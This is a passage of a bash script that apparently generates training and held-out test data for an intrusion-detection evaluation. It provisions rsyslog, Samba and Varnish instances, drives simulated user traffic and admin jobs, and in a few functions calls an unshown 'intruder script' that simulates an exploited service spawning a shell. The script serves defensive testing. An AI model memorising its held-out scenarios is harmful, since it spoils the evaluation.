rsyslog_check() { admin rsyslog root /usr/sbin/rsyslogd -N1 -f "$RS_CONF"; }
# rsyslog_rotate [compress]: logrotate run by root outside the cgroup (as cron runs it on the
# host), forced, with its own config and state file in $RS_DIR: every per-host file, the
# alert files and the JSON output renamed to .1 (the generations before shifted, 4 kept; with
# compress, gzipped from .2 on: delaycompress), then, once for all (sharedscripts), HUP to
# rsyslogd, which reopens them at the next message.
rsyslog_rotate() {
  cat >"$RS_DIR/logrotate.conf" <<CONF
$RS_REMOTE/*/*.log $RS_REMOTE/*/*/*.log $RS_OUT/all.json {
  rotate 4
  missingok
  ${1:+$1
  delaycompress}
  sharedscripts
  postrotate
    kill -HUP $RS_PID
  endscript
}
CONF
  logrotate -f -s "$RS_DIR/logrotate.state" "$RS_DIR/logrotate.conf" || echo "record-testdata: rsyslog: logrotate failed" >&2
  sleep 0.3
}
# rsyslog_send JOBS: the senders on stdin (lines for rsyslog-client.py), JOBS at a time.
rsyslog_send() {
  python3 "$RS_TOOL" "$RSYSLOG_PORT" "$1" || echo "record-testdata: rsyslog: the senders failed" >&2
}
# rsyslog_logger PROTO TAG ARG...: util-linux logger on the collector's own host (its
# hostname), over PROTO (tcp or udp) with the tag TAG.
rsyslog_logger() {
  logger "--$1" --server 127.0.0.1 --port "$RSYSLOG_PORT" -t "$2" "${@:3}" 2>/dev/null || true
}

# The fleet of training: hosts and the source address each sends from.
RS_HOSTS=(web-01 web-02 web-03 web-04 db-01 db-02 cache-01)
RS_ROUND=0
# rsyslog_fleet NET FIRST PROTO PROGS...: one sender line per host of the fleet, from
# NET.(FIRST + the host's index), for each host the programs PROGS give it (web:prog,
# db:prog, cache:prog; COUNT and PACE after a second colon), over PROTO.
rsyslog_fleet() {
  local net=$1 first=$2 proto=$3 i h spec kind rest
  shift 3
  for i in "${!RS_HOSTS[@]}"; do
    h=${RS_HOSTS[i]}
    for spec in "$@"; do
      kind=${spec%%:*} rest=${spec#*:}
      case $h in "$kind"-*) echo "$proto $net.$((first + i)) $h ${rest%%:*} ${rest#*:}" ;; esac
    done
  done
}

# Mix A: each host of the fleet (web-01..04, db-01, db-02, cache-01) from its own address
# (127.0.0.11-17), a TCP connection per host and program: web hosts nginx and app (and cron every fifth
# round), db hosts postgres, cron and sshd, cache-01 app, kernel and sshd over UDP; a steady
# stream of nginx from one web host in turn (RFC 5424, 0.05 s apart); the collector's own cron
# and sshd through logger (TCP RFC 5424 with --id, UDP RFC 3164); every sixth round a burst of
# 600 nginx lines from one web host (the JSON action's queue spills to disk).
rsyslog_mix_a() {
  local r=$((RS_ROUND += 1)) w
  w=web-0$((1 + r % 4))
  {
    rsyslog_fleet 127.0.0 11 tcp web:nginx:20 web:app:5 db:postgres:12 db:sshd:1
    [ $((r % 5)) != 0 ] || rsyslog_fleet 127.0.0 11 tcp web:cron:1 db:cron:2
    rsyslog_fleet 127.0.0 11 udp cache:app:5 cache:kernel:1 cache:sshd:1
    echo "tcp 127.0.0.$((10 + 1 + r % 4)) $w nginx 15 0.05 5424"
    [ $((r % 6)) != 0 ] || echo "tcp 127.0.0.$((10 + 1 + (r + 2) % 4)) web-0$((1 + (r + 2) % 4)) nginx 600"
  } | rsyslog_send 8
  rsyslog_logger tcp cron --id=$((4000 + r)) --rfc5424 "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)"
  rsyslog_logger udp sshd --rfc3164 "Accepted publickey for ops from 10.0.0.$((r % 200)) port 40022 ssh2"
}
# Mix B: the same fleet from 127.0.0.21-27 with programs on other hosts (web hosts sshd and
# kernel, db hosts app and kernel, cache-01 cron and nginx), at other rates: one host's
# steady stream alone (UDP, RFC 5424, 0.1 s apart), then all of them six at a time, fewer
# messages each; logger with a facility and a message id.
rsyslog_mix_b() {
  local r=$((RS_ROUND += 1))
  echo "udp 127.0.0.$((21 + r % 7)) ${RS_HOSTS[r % 7]} app 10 0.1 5424" | rsyslog_send 1
  {
    rsyslog_fleet 127.0.0 21 tcp web:sshd:2 db:app:8 cache:cron:1 cache:nginx:30
    rsyslog_fleet 127.0.0 21 udp web:kernel:1 db:kernel:1
  } | rsyslog_send 6
  rsyslog_logger tcp app -p local3.notice --rfc5424 --msgid=DEPLOY "release $r rolled out"
}
# Its scheduled jobs in training: the logs rotated (renamed, HUP), then the config checked
# with `rsyslogd -N1` inside the cgroup.
rsyslog_maintenance() { rsyslog_rotate; rsyslog_check; }

# The generic intruder script as $RS_USER in the directory of the senders' logs (an exploited
# parser or output module executing a shell).
rsyslog_inject() { inject_shell rsyslog "$RS_USER" "$RS_REMOTE"; }
rsyslog_labels() { write_labels rsyslog "$RS_REMOTE"; }

# Held out, from a fresh provisioning. The fleet grows: web-05..09, db-03 and batch-01 join
# one by one (a new one every other round), with programs training never saw (haproxy,
# redis, dockerd, kubelet, backup, etl, systemd), so new per-host directories and files; the
# hosts of training go on from other addresses; all from 127.0.26.1-250 (another offset each
# round), RFC 3164 and 5424, TCP and UDP; every fifth round a burst of 1500 etl lines from
# batch-01; db-02 goes silent after round 10; logger with new tags. After the restart in the
# middle and a round, the config changed (a directory per day in the file template, a new
# ruleset that copies warnings and the kernel's lines into remote/_alerts/), checked with
# `rsyslogd -N1` inside the cgroup and applied by a restart. Every 20 s a rotation (the
# generation before gzipped).
rsyslog_heldout_deploy() { RS_ROUND=0; }
rsyslog_heldout_mix() {
  local r=$((RS_ROUND += 1)) i h
  local new=(web-05:haproxy web-06:nginx web-07:dockerd db-03:postgres web-08:kubelet batch-01:etl web-09:redis)
  local progs=(haproxy redis dockerd kubelet backup systemd)
  {
    for i in "${!RS_HOSTS[@]}"; do
      h=${RS_HOSTS[i]}
      [ "$h" != db-02 ] || [ "$r" -le 10 ] || continue
      echo "tcp 127.0.26.$((1 + (i * 37 + r * 41) % 250)) $h ${progs[(i + r) % 6]} 6 0 $([ $((i % 2)) = 0 ] && echo 5424 || echo 3164)"
      echo "udp 127.0.26.$((1 + (i * 37 + r * 41 + 7) % 250)) $h ${h%%-*}-agent 3"
    done
    for ((i = 0; i < ${#new[@]} && i <= r / 2; i++)); do
      h=${new[i]%%:*}
      echo "tcp 127.0.26.$((1 + (i * 53 + r * 29 + 100) % 250)) $h ${new[i]#*:} 15 0 5424"
      echo "udp 127.0.26.$((1 + (i * 53 + r * 29 + 150) % 250)) $h systemd 2"
    done
    [ $((r % 5)) != 0 ] || echo "tcp 127.0.26.$((1 + r % 250)) batch-01 etl 1500"
  } | rsyslog_send 8
  rsyslog_logger tcp backup --id=$((9000 + r)) --rfc5424 "snapshot $r of /srv/data done"
  rsyslog_logger udp kubelet --rfc3164 "pod web-$((r % 9)) ready"
}
rsyslog_heldout_job() { rsyslog_rotate compress; }
rsyslog_heldout_reload() {
  rsyslog_heldout_mix
  rsyslog_config daily
  rsyslog_check
  rsyslog_stop
  rsyslog_start
}

# --- samba --------------------------------------------------------------------------------

SAMBA_PORT=14450                   # smbd's only listener, 127.0.0.1
SAMBA_RELAY_BASE=14600             # relays for clients from 127.0.0.A: 127.0.0.1:(14600 + A)
SAMBA_HELDOUT_RELAY_BASE=14700     # heldout's relays for clients from 127.0.28.A: (14700 + A)
SMB_DIR=$WORK/samba
SMB_CONF=$SMB_DIR/conf/smb.conf
SMB_SHARES=$SMB_DIR/shares         # public/, team/, uploads/, homes/<user>, (heldout) finance/
SMB_CLIENT=$SMB_DIR/client         # the clients' own files (root, outside the cgroup and the shares)
SMB_TEAM=dwsmb-team                # the team share's group
SMB_ALL_USERS=(alice bob carol dave erin gina)   # dwsmb-NAME; mix A alice, bob, carol; mix B dave, erin; gina from heldout's deploy

# Samba 4.17 (Debian samba) as a standalone file server, its own instance, not the system
# service (smbd, nmbd and samba-ad-dc disabled; no nmbd or winbindd runs): `smbd --foreground
# --no-process-group --configfile=conf/smb.conf` started as root in dw-eval/samba, as
# smbd.service starts it. The master listens on 127.0.0.1:$SAMBA_PORT only (smb ports,
# interfaces, bind interfaces only; no NetBIOS) and forks a child per client connection,
# which runs as root and switches to the logged-in user's ids for each file operation. Every
# path from its own root-owned smb.conf under $SMB_DIR: lock/, state/, cache/, private/
# (passdb.tdb, tdbsam: its own users' NT hashes, set with smbpasswd -c), run/ (pid file),
# ncalrpc/, usershares/, logs in log/ (log.smbd, one log.<client address> per client
# address); its startup log too (--log-basename). Share listing (srvsvc) starts Samba's RPC
# helpers on demand (samba-dcerpcd, which forks rpcd_* workers, in the cgroup; their very
# first lines, before they read the config, go to Debian's /var/log/samba). Shares under
# shares/: public (read-only documentation for every user), team (a project tree of office
# documents, group $SMB_TEAM, force group), uploads (a drop area, sticky) and [homes] (each user's
# home directory shares/homes/NAME, for that user only). Users dwsmb-NAME: system users with
# no login shell, added by the host's administrator (outside the cgroup) with useradd and
# `smbpasswd -a`. SIGTERM stops the master; its children and the RPC helpers are stopped with
# it (the unit's control-group stop).
samba_cleanup() {
  local n
  for n in "${SMB_ALL_USERS[@]}"; do
    if id -u "dwsmb-$n" >/dev/null 2>&1; then userdel "dwsmb-$n" >/dev/null 2>&1 || true; fi
  done
  if getent group "$SMB_TEAM" >/dev/null; then groupdel "$SMB_TEAM" >/dev/null 2>&1 || true; fi
}
samba_provision() {
  if postfix_listening "$SAMBA_PORT"; then die "port $SAMBA_PORT is in use"; fi
  # The users and the group live outside $WORK: removed by the shared cleanup.
  HOST_CLEANUP+=(samba_cleanup)
  samba_cleanup
  rm -rf "$SMB_DIR"
  mkdir -p "$SMB_DIR"/{conf,lock,state,cache,private,run,ncalrpc,usershares,log} "$SMB_CLIENT"/down \
    "$SMB_SHARES"/{public,team,uploads,homes}
  chmod 700 "$SMB_DIR/private"
  groupadd --system "$SMB_TEAM"
  samba_config
  SMB_PW=()
  local n
  for n in alice bob carol dave erin; do samba_user "$n"; done
  for n in alice bob dave erin; do usermod -aG "$SMB_TEAM" "dwsmb-$n"; done
  # public: manuals and forms, root-owned, read by everyone.
  mkdir -p "$SMB_SHARES"/public/{manuals,forms,policies}
  echo "example.test file service: manuals, forms and policies. Ask IT for access to team." \
    >"$SMB_SHARES/public/readme.txt"
  vsftpd_fill "$SMB_SHARES/public/manuals/manual-" .pdf 8 40000
  vsftpd_fill "$SMB_SHARES/public/forms/form-" .docx 10 12000
  vsftpd_fill "$SMB_SHARES/public/policies/policy-" .odt 5 9000
  chmod -R a+rX,go-w "$SMB_SHARES/public"
  # team: two projects of office documents, group-owned and group-writable.
  mkdir -p "$SMB_SHARES"/team/projects/{alpha,beta} "$SMB_SHARES/team/templates"
  vsftpd_fill "$SMB_SHARES/team/projects/alpha/spec-" .docx 10 20000
  vsftpd_fill "$SMB_SHARES/team/projects/alpha/budget-" .xlsx 6 15000
  vsftpd_fill "$SMB_SHARES/team/projects/beta/deck-" .pptx 6 150000
  vsftpd_fill "$SMB_SHARES/team/projects/beta/minutes-" .odt 8 6000
  vsftpd_fill "$SMB_SHARES/team/templates/letter-" .dotx 3 10000
  chown -R "root:$SMB_TEAM" "$SMB_SHARES/team"
  find "$SMB_SHARES/team" -type d -exec chmod 2775 {} +
  find "$SMB_SHARES/team" -type f -exec chmod 664 {} +
  mkdir -p "$SMB_SHARES/uploads/incoming"
  chmod 1777 "$SMB_SHARES/uploads" "$SMB_SHARES/uploads/incoming"
  # The clients' files (their laptops): documents, sheets, scans and notes of various sizes.
  vsftpd_fill "$SMB_CLIENT/doc-" .docx 8 18000
  vsftpd_fill "$SMB_CLIENT/sheet-" .xlsx 5 25000
  vsftpd_fill "$SMB_CLIENT/scan-" .pdf 6 300000
  vsftpd_fill "$SMB_CLIENT/notes-" .txt 3 2000
  vsftpd_fill "$SMB_CLIENT/slides-" .pptx 3 400000
  /usr/bin/testparm -s "$SMB_CONF" >/dev/null 2>&1 || die "testparm failed on $SMB_CONF"
  # Clients from 127.0.0.2-8 through relays outside the cgroup (smbclient binds no source
  # address); started once and kept across restarts and provisionings.
  samba_relays "$SAMBA_RELAY_BASE" 127.0.0 2 3 4 5 6 7 8
  SMB_ROUND=0
}

# samba_config [SHARE]: conf/smb.conf (world-readable); with SHARE (heldout's finance) one
# more share, shares/SHARE, for gina and alice.
samba_config() {
  cat >"$SMB_CONF" <<CONF
[global]
  server role = standalone server
  workgroup = EXAMPLE
  netbios name = FILES01
  server string = example.test file service
  smb ports = $SAMBA_PORT
  interfaces = 127.0.0.1
  bind interfaces only = yes
  disable netbios = yes
  lock directory = $SMB_DIR/lock
  state directory = $SMB_DIR/state
  cache directory = $SMB_DIR/cache
  private dir = $SMB_DIR/private
  pid directory = $SMB_DIR/run
  ncalrpc dir = $SMB_DIR/ncalrpc
  usershare path = $SMB_DIR/usershares
  passdb backend = tdbsam:$SMB_DIR/private/passdb.tdb
  log file = $SMB_DIR/log/log.%I
  max log size = 1000
  log level = 1 auth_audit:2
  load printers = no
  printing = bsd
  printcap name = /dev/null
  disable spoolss = yes
  map to guest = never
  server min protocol = SMB2_10
[public]
  comment = manuals, forms and policies
  path = $SMB_SHARES/public
  read only = yes
[team]
  comment = project documents
  path = $SMB_SHARES/team
  read only = no
  valid users = @$SMB_TEAM
  force group = $SMB_TEAM
  create mask = 0664
  directory mask = 2775
[uploads]
  comment = drop area
  path = $SMB_SHARES/uploads
  read only = no
  create mask = 0640
[homes]
  comment = home directory
  browseable = no
  read only = no
  valid users = %S
  create mask = 0600
  directory mask = 0700
CONF
  if [ -n "${1:-}" ]; then
    cat >>"$SMB_CONF" <<CONF
[$1]
  comment = $1 documents
  path = $SMB_SHARES/$1
  read only = no
  valid users = dwsmb-gina dwsmb-alice
  force group = $SMB_TEAM
  create mask = 0660
  directory mask = 2770
CONF
  fi
  chmod 644 "$SMB_CONF"
}

# samba_user NAME: the local user dwsmb-NAME (a system user without a login shell, its home
# shares/homes/NAME) and its Samba password (samba_pass NAME) in passdb, by the host's
# administrator (outside the cgroup). samba_passwd NAME PASSWORD: its password set anew.
declare -A SMB_PW=()
samba_pass() { echo "${SMB_PW[$1]:-dw-eval-$1-smb}"; }
samba_user() {
  local u=dwsmb-$1
  useradd --system --user-group --no-create-home --home-dir "$SMB_SHARES/homes/$1" --shell /usr/sbin/nologin "$u"
  mkdir -p "$SMB_SHARES/homes/$1"/{documents,notes}
  vsftpd_fill "$SMB_SHARES/homes/$1/documents/draft-" .docx 4 9000
  chown -R "$u:$u" "$SMB_SHARES/homes/$1"
  chmod 700 "$SMB_SHARES/homes/$1"
  samba_passwd "$1" "$(samba_pass "$1")" -a
}
samba_passwd() {
  SMB_PW[$1]=$2
  printf '%s\n%s\n' "$2" "$2" | /usr/bin/smbpasswd -c "$SMB_CONF" -s ${3:+"$3"} "dwsmb-$1" >/dev/null
}

# samba_relays BASE NET A...: the relays start_relays makes for clients from NET.A
# (127.0.0.1:(BASE + A)), those not already running.
samba_relays() {
  local base=$1 net=$2 a todo=()
  shift 2
  for a in "$@"; do postfix_listening $((base + a)) || todo+=("$a"); done
  [ ${#todo[@]} = 0 ] || start_relays "$SAMBA_PORT" "$base" "$net" "${todo[@]}"
}

SMB_PID=
samba_start() {
  # In a session of its own (setsid, as the service manager starts every service): smbd's
  # master signals its whole process group when it stops.
  launch samba root /usr/bin/setsid /usr/sbin/smbd --foreground --no-process-group --configfile="$SMB_CONF" \
    --log-basename="$SMB_DIR/log"
  SMB_PID=$LAUNCHED
  until_ok postfix_listening "$SAMBA_PORT"
}
# TERM to the master, then to what is left in the cgroup (sessions, the RPC helpers) until
# nothing is, as the unit's control-group stop; the rounds so far are reported.
samba_stop() {
  stop_pid "$SMB_PID" TERM
  until_ok samba_stopped
  echo "record-testdata: samba: $SMB_ROUND rounds so far" >&2
}
samba_stopped() {
  local left
  left=$(cat "$CG_MOUNT/$CG_BASE/samba/cgroup.procs")
  [ -n "$left" ] || return 0
  # shellcheck disable=SC2086 # one pid a word
  kill -TERM $left 2>/dev/null
  return 1
}

# samba_client PORT NAME SHARE CMDS: one smbclient session (outside the cgroup) through the
# relay on PORT as dwsmb-NAME (its current password; NAME/PASSWORD for a typed one) on
# //127.0.0.1/SHARE, running the smbclient commands CMDS (a failed one is part of the traffic);
# with SHARE -L, the share listing instead. In the background: samba_clients waits for them.
SMB_CLIENT_PIDS=()
samba_client() {
  local login=dwsmb-$2 pass
  case $2 in */*) login=dwsmb-${2%%/*} pass=${2#*/} ;; *) pass=$(samba_pass "$2") ;; esac
  if [ "$3" = -L ]; then
    timeout 30 smbclient -L //127.0.0.1 -p "$1" -U "$login%$pass" >/dev/null 2>&1 &
  else
    timeout 60 smbclient "//127.0.0.1/$3" -p "$1" -U "$login%$pass" -c "$4" >/dev/null 2>&1 &
  fi
  SMB_CLIENT_PIDS+=($!)
}
samba_clients() {
  local p
  for p in "${SMB_CLIENT_PIDS[@]}"; do wait "$p" || true; done
  SMB_CLIENT_PIDS=()
}
# samba_at A: the relay port for clients from 127.0.0.A.
samba_at() { echo $((SAMBA_RELAY_BASE + $1)); }

# Mix A, from 127.0.0.2-4, three sessions at a time: alice in team's projects/alpha (lists,
# downloads a spec, uploads a sheet, renames it, deletes an older one, makes and removes a
# directory); bob in his home (notes uploaded, read back, listed); carol in public (a manual,
# a form, the readme); every third round carol drops a scan into uploads/incoming and alice
# takes an older one out (downloaded, deleted); every tenth round bob lists the shares (srvsvc,
# Samba's RPC helpers); every fourth round a failed login (carol on team, a wrong password).
samba_mix_a() {
  local r=$((SMB_ROUND += 1)) c=$SMB_CLIENT
  samba_client "$(samba_at 2)" alice team "cd projects/alpha; ls; get spec-$((r % 10 + 1)).docx /dev/null;
    put $c/sheet-$((r % 5 + 1)).xlsx budget-r$((r % 6)).xlsx; rename budget-r$((r % 6)).xlsx budget-r$((r % 6))-v2.xlsx;
    del budget-r$(((r + 3) % 6))-v2.xlsx; mkdir tmp-$r; rmdir tmp-$r"
  samba_client "$(samba_at 3)" bob dwsmb-bob "cd notes; put $c/notes-$((r % 3 + 1)).txt today-$((r % 4)).txt; ls;
    get today-$(((r + 1) % 4)).txt /dev/null; cd ../documents; ls"
  samba_client "$(samba_at 4)" carol public "ls; cd manuals; get manual-$((r % 8 + 1)).pdf /dev/null; cd ../forms;
    get form-$((r % 10 + 1)).docx /dev/null; cd /; get readme.txt /dev/null"
  if [ $((r % 3)) = 0 ]; then
    samba_client "$(samba_at 4)" carol uploads "cd incoming; put $c/scan-$((r % 6 + 1)).pdf scan-$((r % 9)).pdf; ls"
    samba_client "$(samba_at 2)" alice uploads "cd incoming; get scan-$(((r + 3) % 9)).pdf /dev/null; del scan-$(((r + 3) % 9)).pdf"
  fi
  [ $((r % 10)) != 0 ] || samba_client "$(samba_at 3)" bob -L
  [ $((r % 4)) != 0 ] || samba_client "$(samba_at 4)" carol/wrong-password team ls
  samba_clients
}
# Mix B, from 127.0.0.5-8, other users and files: one session at a time in odd rounds, all at
# once in even ones: dave in projects/beta (a deck downloaded, minutes uploaded as .odt and
# renamed, templates listed), erin in her home (a drafts directory, documents up and down),
# dave in public's forms and policies, erin in alpha's budgets; every fourth round erin drops a
# sheet into uploads; every sixth dave lists the shares.
samba_mix_b() {
  local r=$((SMB_ROUND += 1)) c=$SMB_CLIENT one=:
  [ $((r % 2)) = 0 ] || one=samba_clients
  samba_client "$(samba_at 5)" dave team "cd projects/beta; ls; get deck-$((r % 6 + 1)).pptx /dev/null;
    put $c/doc-$((r % 8 + 1)).docx minutes-new-$((r % 5)).odt; rename minutes-new-$((r % 5)).odt minutes-r$r.odt;
    del minutes-r$((r - 10)).odt; cd ../../templates; ls"
  $one
  samba_client "$(samba_at 6)" erin dwsmb-erin "mkdir drafts; cd drafts; put $c/doc-$((r % 8 + 1)).docx letter-$((r % 3)).docx;
    ls; cd ../documents; get draft-$((r % 4 + 1)).docx /dev/null"
  $one
  samba_client "$(samba_at 7)" dave public "cd forms; ls; get form-$((r % 10 + 1)).docx /dev/null; cd ../policies;
    get policy-$((r % 5 + 1)).odt /dev/null"
  $one
  samba_client "$(samba_at 8)" erin team "cd projects/alpha; ls budget*; get budget-$((r % 6 + 1)).xlsx /dev/null"
  [ $((r % 4)) != 0 ] || samba_client "$(samba_at 8)" erin uploads "cd incoming; put $c/sheet-$((r % 5 + 1)).xlsx sheet-e$((r % 3)).xlsx"
  [ $((r % 6)) != 0 ] || samba_client "$(samba_at 7)" dave -L
  samba_clients
}

# samba_admin CMD ARG...: one of Samba's own tools, run by the operator as root inside the
# cgroup on the instance's config.
samba_admin() { admin samba root "/usr/bin/$1" --configfile="$SMB_CONF" "${@:2}"; }
# Its scheduled jobs in training: the config re-read (`smbcontrol smbd reload-config`), checked
# (`testparm -s`), the sessions and locks listed (`smbstatus`) and the users (`pdbedit -L`).
samba_maintenance() {
  samba_admin smbcontrol smbd reload-config
  admin samba root /usr/bin/testparm -s "$SMB_CONF"
  samba_admin smbstatus
  samba_admin pdbedit -L
}

# The generic intruder script as alice (an exploited session of a logged-in user executing a
# shell) in her home directory.
samba_inject() { inject_shell samba dwsmb-alice "$SMB_SHARES/homes/alice"; }
samba_labels() { write_labels samba "$SMB_SHARES/homes/alice"; }

# Held out, from a fresh provisioning. The administrator adds a new user, gina (useradd,
# `smbpasswd -a`, outside the cgroup; in the team group) and a new share, finance (for gina
# and alice), to smb.conf, applied by `smbcontrol smbd reload-config` inside the cgroup; new
# file types (.vsdx, .csv, .zip, .png, .mp4) and a bulk folder of 30 documents on the
# clients. Each round six sessions at a time from 127.0.28.1-250 (relays on 24 addresses,
# another offset each round): gina makes new project directories (projects/gamma-2027/<week>)
# and uploads diagrams and data into them, and ledgers into finance; every other round alice
# copies the bulk folder into a new import directory in alpha (mput), else reads finance;
# bob copies his notes and documents down (mget, recursive); carol downloads the new images
# and a video from public; dave makes a new quarter's directory in beta with a kickoff deck
# and uploads a zip; every third round erin lists the shares and, once bob's password
# changed, his laptop tries the old one (a failed login). Every 20 s in turn: bob's password changed by
# the administrator (smbpasswd, outside) and `pdbedit -L` inside the cgroup; `testparm -s` and
# `smbstatus`.
SMB_HELDOUT_ADDRS=()
samba_heldout_deploy() {
  local i
  SMB_HELDOUT_ADDRS=()
  for i in $(seq 0 23); do SMB_HELDOUT_ADDRS+=($((1 + i * 10 + i % 3 + i % 7))); done
  samba_relays "$SAMBA_HELDOUT_RELAY_BASE" 127.0.28 "${SMB_HELDOUT_ADDRS[@]}"
  samba_user gina
  usermod -aG "$SMB_TEAM" dwsmb-gina
  mkdir -p "$SMB_SHARES/finance/ledgers"
  vsftpd_fill "$SMB_SHARES/finance/ledgers/ledger-2026-" .csv 6 30000
  chown -R "root:$SMB_TEAM" "$SMB_SHARES/finance"
  find "$SMB_SHARES/finance" -type d -exec chmod 2770 {} +
  find "$SMB_SHARES/finance" -type f -exec chmod 660 {} +
  samba_config finance
  samba_admin smbcontrol smbd reload-config
  mkdir -p "$SMB_SHARES/public/images" "$SMB_SHARES/public/videos" "$SMB_CLIENT/bulk"
  vsftpd_fill "$SMB_SHARES/public/images/floorplan-" .png 6 200000
  vsftpd_fill "$SMB_SHARES/public/videos/onboarding-" .mp4 2 3000000
  chmod -R a+rX "$SMB_SHARES/public"
  vsftpd_fill "$SMB_CLIENT/diagram-" .vsdx 4 60000
  vsftpd_fill "$SMB_CLIENT/data-" .csv 4 80000
  vsftpd_fill "$SMB_CLIENT/bulk/report-" .docx 20 15000
  vsftpd_fill "$SMB_CLIENT/bulk/figure-" .png 10 50000
  SMB_HELDOUT_JOBS=0
  SMB_OLD_BOB=
}
# samba_from K: the relay port for the K-th session of this round (127.0.28.x).
samba_from() {
  local n=${#SMB_HELDOUT_ADDRS[@]}
  echo $((SAMBA_HELDOUT_RELAY_BASE + SMB_HELDOUT_ADDRS[($1 * 7 + SMB_ROUND * 5) % n]))
}
samba_heldout_mix() {
  local r=$((SMB_ROUND += 1)) c=$SMB_CLIENT w
  w=gamma-2027/week-$((r % 5 + 1))
  samba_client "$(samba_from 1)" gina team "mkdir projects/gamma-2027; mkdir projects/$w; cd projects/$w;
    put $c/diagram-$((r % 4 + 1)).vsdx flow-$r.vsdx; put $c/data-$((r % 4 + 1)).csv measurements-$r.csv; ls"
  samba_client "$(samba_from 2)" gina finance "cd ledgers; ls; put $c/data-$((r % 4 + 1)).csv ledger-q$((r % 4 + 1))-$r.csv;
    get ledger-2026-$((r % 6 + 1)).csv /dev/null"
  if [ $((r % 2)) = 0 ]; then
    samba_client "$(samba_from 3)" alice team "cd projects/alpha; mkdir import-$r; cd import-$r; prompt off; lcd $c/bulk; mput *"
  else
    samba_client "$(samba_from 3)" alice finance "cd ledgers; ls; get ledger-2026-$((r % 6 + 1)).csv /dev/null"
  fi
  samba_client "$(samba_from 4)" bob dwsmb-bob "prompt off; recurse on; lcd $c/down; mget notes; mget documents"
  samba_client "$(samba_from 5)" carol public "cd images; ls; get floorplan-$((r % 6 + 1)).png /dev/null;
    cd ../videos; get onboarding-$((r % 2 + 1)).mp4 /dev/null"
  samba_client "$(samba_from 6)" dave team "cd projects/beta; mkdir 2027-q$((r % 4 + 1)); put $c/slides-$((r % 3 + 1)).pptx 2027-q$((r % 4 + 1))/kickoff.pptx;
    put $c/bulk/figure-$((r % 10 + 1)).png archive-$r.zip; ls 2027-q*"
  [ $((r % 3)) != 1 ] || samba_client "$(samba_from 7)" erin -L
  if [ -n "$SMB_OLD_BOB" ] && [ $((r % 3)) = 0 ]; then samba_client "$(samba_from 8)" "bob/$SMB_OLD_BOB" dwsmb-bob ls; fi
  samba_clients
}
SMB_HELDOUT_JOBS=0
SMB_OLD_BOB=
samba_heldout_job() {
  SMB_HELDOUT_JOBS=$((SMB_HELDOUT_JOBS + 1))
  if [ $((SMB_HELDOUT_JOBS % 2)) = 1 ]; then
    SMB_OLD_BOB=$(samba_pass bob)
    samba_passwd bob "dw-eval-bob-smb-$SMB_HELDOUT_JOBS"
    samba_admin pdbedit -L
  else
    admin samba root /usr/bin/testparm -s "$SMB_CONF"
    samba_admin smbstatus
  fi
}
# --- varnish ------------------------------------------------------------------------------

VARNISH_PORT=16081                    # varnishd's client listener (-a)
VARNISH_ADMIN_PORT=16082              # its management CLI (-T), for varnishadm
VN_ORIGIN_PORTS=(16091 16092 16093)   # the origins (python3, outside the cgroup); the third from heldout's deploy on
VN_DIR=$WORK/varnish
VN_INST=$VN_DIR/inst                  # the instance directory (-n): shared memory logs, compiled VCLs
VN_VCL=$VN_DIR/conf/default.vcl       # the VCL varnishd starts with; each reload loads it anew
VN_SECRET=$VN_DIR/conf/secret         # the CLI's shared secret (-S)
VN_STORAGE=$VN_DIR/storage            # the file storage (-s file), vcache's
VN_URL=http://127.0.0.1:$VARNISH_PORT
declare -A VN_ORIGIN_PIDS=()          # origin port -> pid

# Varnish Cache 7.1 (Debian varnish) as a caching HTTP reverse proxy, its own instance, not the
# system service (varnish and varnishncsa disabled): `varnishd -F -j unix,user=vcache -a
# 127.0.0.1:$VARNISH_PORT -T 127.0.0.1:$VARNISH_ADMIN_PORT -S conf/secret -n inst -f
# conf/default.vcl -s file,storage/cache.bin,64m` started as root in dw-eval/varnish, in the
# foreground, as Debian's unit runs it: the manager (root, then the varnish user) keeps the CLI
# and forks the cache child (vcache) that serves; at the start and at each `vcl.load` the
# manager compiles the VCL to C and runs the C compiler (/bin/sh -c "exec gcc ... -shared")
# to build the shared object the child loads, in a directory of its own under inst/. Its VCL,
# root-owned in conf/: two backends on the origins with a health probe, a round-robin
# director, /admin passed, PURGE and BAN (by an x-url header on each object, so the ban
# lurker can evict) for the ACL 127.0.0.1 only, TTLs set for pages (a release's own) and
# news, an X-Cache header. The origins are squid's (squid_origin_tool: static files and
# images for 10 minutes, pages for 5 s, news revalidated each time, private account pages,
# no-store API answers, documents, large files); varnishadm is the operator's, on the host
# (outside the cgroup) with the secret.
varnish_provision() {
  local p
  for p in "${!VN_ORIGIN_PIDS[@]}"; do varnish_origin_down "$p"; done
  for p in "$VARNISH_PORT" "$VARNISH_ADMIN_PORT" "${VN_ORIGIN_PORTS[@]}"; do
    if ss -Hltn "sport = :$p" | grep -q .; then die "port $p is in use"; fi
  done
  rm -rf "$VN_DIR"
  mkdir -p "$VN_DIR/conf" "$VN_STORAGE"
  chown vcache:varnish "$VN_STORAGE"
  # As Debian's postinst makes /etc/varnish/secret.
  head -c 32 /dev/urandom | base64 >"$VN_SECRET"
  chmod 600 "$VN_SECRET"
  VN_RELEASE=1 VN_LOADS=0 VN_ROUND=0
  varnish_vcl
  squid_origin_tool
  varnish_origin_up "${VN_ORIGIN_PORTS[0]}"
  varnish_origin_up "${VN_ORIGIN_PORTS[1]}"
}
# varnish_origin_up PORT / _down PORT: an origin (squid's origin code) started or stopped.
varnish_origin_up() {
  python3 "$SQUID_ORIGIN" "$1" >/dev/null 2>&1 &
  PIDS+=($!)
  VN_ORIGIN_PIDS[$1]=$!
  until_ok curl -sf -o /dev/null "http://127.0.0.1:$1/static/app.css"
}
varnish_origin_down() { stop_pid "${VN_ORIGIN_PIDS[$1]}" TERM; unset "VN_ORIGIN_PIDS[$1]"; }

# varnish_vcl [heldout]: conf/default.vcl for release VN_RELEASE (pages kept 10, 20 or 30 s,
# in turn). With heldout: a third backend in the director, assets kept a day with their
# Cache-Control made immutable, and X-Served-By and X-Release headers.
VN_RELEASE=1
varnish_vcl() {
  local web3='' add3='' assets='' served=''
  if [ "${1:-}" = heldout ]; then
    web3="backend web3 { .host = \"127.0.0.1\"; .port = \"${VN_ORIGIN_PORTS[2]}\"; .probe = health; }"
    add3='site.add_backend(web3);'
    assets='if (bereq.url ~ "^/assets/") { set beresp.ttl = 1d; set beresp.http.Cache-Control = "public, max-age=31536000, immutable"; }'
    served="set resp.http.X-Served-By = server.identity; set resp.http.X-Release = \"$VN_RELEASE\";"
  fi
  cat >"$VN_VCL" <<VCL
vcl 4.1;
# release $VN_RELEASE
